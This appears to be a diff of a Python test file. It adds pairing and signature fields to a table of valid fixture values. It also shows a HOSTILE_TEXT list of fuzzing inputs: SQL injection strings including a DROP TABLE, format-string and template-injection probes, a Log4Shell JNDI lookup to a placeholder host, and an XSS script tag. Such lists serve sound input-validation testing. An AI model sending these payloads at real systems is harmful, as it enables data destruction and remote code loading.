@@ -34,6 +34,7 @@ VALID = {
     "fares": ["standard"], "options": [("a", 1_000, 20_000)], "priced_fares": [("standard", 30_000)],
     "older_than": dt.timedelta(0), "give_up_after": dt.timedelta(hours=24), "hook": None, "progress": None,
     "share": None, "month": 6, "schedule": [D(2026, 6, 6)], "units": None, "account": "reserved",
+    "pairing_code": "ABCD-EFGH", "challenge_id": "0" * 32, "certificate": b"0", "signature": b"0",
 }
 HOSTILE_TEXT = ["", " ", "'; DROP TABLE journal_entries; --", "' OR '1'='1", "{amount}", "{0.__class__.__mro__}",
                 "%s%s%s%n", "${jndi:ldap://x/a}", "<script>alert(1)</script>", "\x00", "ＪＡＬ", "２，０００", "-5",
